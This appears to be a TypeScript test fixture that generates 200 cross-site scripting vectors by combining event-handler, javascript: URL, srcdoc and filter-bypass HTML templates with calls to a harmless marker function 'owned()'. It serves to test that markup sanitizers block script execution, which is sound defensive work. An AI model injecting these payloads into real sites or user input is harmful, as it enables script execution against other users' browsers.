import { hostileTexts } from '../hostile-text.ts'

const calls = ['owned()', 'window.owned()', 'parent.owned()', 'top["ow"+"ned"]()', 'self.owned``', '(owned)()']

/** Elements that run something by themselves when they become part of a page. */
const elements = [
  (call: string) => `<img src=x onerror=${call}>`,
  (call: string) => `<image src=x onerror="${call}">`,
  (call: string) => `<svg/onload=${call}>`,
  (call: string) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call: string) => `<svg><a xlink:href="javascript:${call}"><text y=9>x</text></a></svg>`,
  (call: string) => `<video autoplay onloadstart="${call}"><source src=x></video>`,
  (call: string) => `<audio src=x onerror=${call}>`,
  (call: string) => `<marquee onstart=${call}>x</marquee>`,
  (call: string) => `<input autofocus onfocus=${call}>`,
  (call: string) => `<select autofocus onfocus=${call}>`,
  (call: string) => `<textarea autofocus onfocus=${call}>`,
  (call: string) => `<details open ontoggle=${call}>x</details>`,
  (call: string) => `<body onpageshow=${call}>`,
  (call: string) => `<iframe srcdoc="<script>${call.replace(/"/g, '&quot;')}</script>"></iframe>`,
  (call: string) => `<object data="data:text/html,<script>${call}</script>"></object>`,
  (call: string) => `<a href="javascript:${call}" id=x tabindex=1 onfocus=${call} autofocus>x</a>`,
  (call: string) => `<math href="javascript:${call}">x</math>`,
  (call: string) => `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${call}"></b>`,
  (call: string) => `<xss onpointerrawupdate=${call} style=position:fixed;inset:0>`,
  (call: string) => `<template shadowrootmode=open><img src=x onerror=${call}></template>`,
  (call: string) => `<link rel=stylesheet href=x onerror=${call}>`,
  (call: string) => `<script src="data:,${call}"></script>`,
  (call: string) => `<script type=module>${call}</script>`,
  (call: string) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (call: string) => `"><script>${call}</script>`,
  (call: string) => `\`}]);${call};//`,
]

/** Two hundred texts that run as a script wherever one of them is taken for markup. */
export const vectors: readonly string[] = [
  ...new Set([...hostileTexts, ...elements.flatMap((element) => calls.map(element))]),
].slice(0, 200)
